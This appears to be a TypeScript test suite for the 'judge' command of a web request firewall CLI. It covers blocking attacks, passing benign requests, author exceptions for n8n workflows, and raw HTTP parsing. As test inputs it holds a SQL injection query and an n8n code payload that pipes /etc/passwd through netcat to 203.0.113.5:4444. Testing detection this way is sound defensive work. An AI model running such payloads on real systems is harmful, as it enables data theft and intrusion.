import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { runCli } from './cli.ts';
import { createCommands } from './commands.ts';
import { parseRawRequest } from './judge-command.ts';

const save = (code: string) => {
  const node = {
    name: 'Code',
    type: 'n8n-nodes-base.code',
    typeVersion: 2,
    position: [0, 0],
    parameters: { jsCode: code },
  };
  const body = JSON.stringify({ name: 'Orders', nodes: [node], connections: {}, settings: {} });
  const head = ['PATCH /rest/workflows/6xK2vB1qPz HTTP/1.1', 'host: n8n.test', 'content-type: application/json'];
  return `${[...head, `content-length: ${Buffer.byteLength(body)}`].join('\r\n')}\r\n\r\n${body}\n`;
};

describe('judging a request in a file', () => {
  let dir = '';
  before(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'sallyport-judge-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  async function judge(text: string, ...options: readonly string[]) {
    writeFileSync(path.join(dir, 'request.txt'), text);
    const said = { out: '', err: '' };
    const status = await runCli(createCommands(dir), ['judge', 'request.txt', ...options], {
      ...{ base: dir, cwd: dir, env: {}, ask: async () => undefined, now: () => 1_800_000_000_000 },
      out: part => {
        said.out += part;
      },
      err: part => {
        said.err += part;
      },
    });
    return { status, ...said };
  }

  it('stops an attack with rule, place and part, and says so by its status', async () => {
    const found = await judge(
      "GET /search?q=1'%20OR%20'1'%3D'1'%20UNION%20SELECT%20a%20FROM%20b-- HTTP/1.1\nhost: a.test\n\n",
    );
    assert.equal(found.status, 1, found.err);
    assert.match(found.out, /^Verdict {3}STOPPED\n[\s\S]*sqli \d+[\s\S]*RULE +POINTS +PLACE[\s\S]*query "q"/);
  });

  it('lets an honest request pass', async () => {
    const found = await judge('GET /search?q=select+a+plan+and+drop+us+a+line HTTP/1.1\nhost: a.test\n\n');
    assert.deepEqual([found.status, found.out.startsWith('Verdict   passes\n')], [0, true], found.out);
  });

  it('knows what an author may write, and stops the same from anybody else', async () => {
    const code =
      "const { execSync } = require('child_process'); return execSync('cat /etc/passwd | nc 203.0.113.5 4444');";
    const stranger = await judge(save(code), '--site-platform', 'n8n');
    assert.equal(stranger.status, 1, stranger.out);
    const author = await judge(save(code), '--site-platform', 'n8n', '--action', 'workflow.update', '--json');
    assert.equal(author.status, 0, author.out);
    assert.ok((JSON.parse(author.out) as { authored: number }).authored > 0);
  });

  it('says what it cannot read, and which actions have authors', async () => {
    for (const text of [
      '',
      'nonsense',
      'GET / HTTP/1.1\nno colon\n\n',
      'POST / HTTP/1.1\ntransfer-encoding: chunked\n\n0\n\n',
    ])
      assert.equal((await judge(text)).status, 2, text);
    assert.match(
      (await judge('GET / HTTP/1.1\n\n', '--site-platform', 'n8n', '--action', 'x.y')).err,
      /workflow\.update/,
    );
    assert.equal((await judge('GET / HTTP/1.1\n\n', '--threshold', '0')).status, 2);
  });

  it('takes header fields and the body as they stand', () => {
    const raw = 'POST /a?b=c HTTP/1.1\r\nA: 1\r\na: 2\r\nContent-Length: 3\r\n\r\nxyz\n';
    const { body, ...rest } = parseRawRequest(Buffer.from(raw));
    assert.deepEqual(
      { ...rest, headers: { ...rest.headers } },
      {
        ...{ method: 'POST', target: '/a?b=c' },
        headers: { a: ['1', '2'], 'content-length': '3' },
      },
    );
    assert.equal(body.toString(), 'xyz');
  });
});
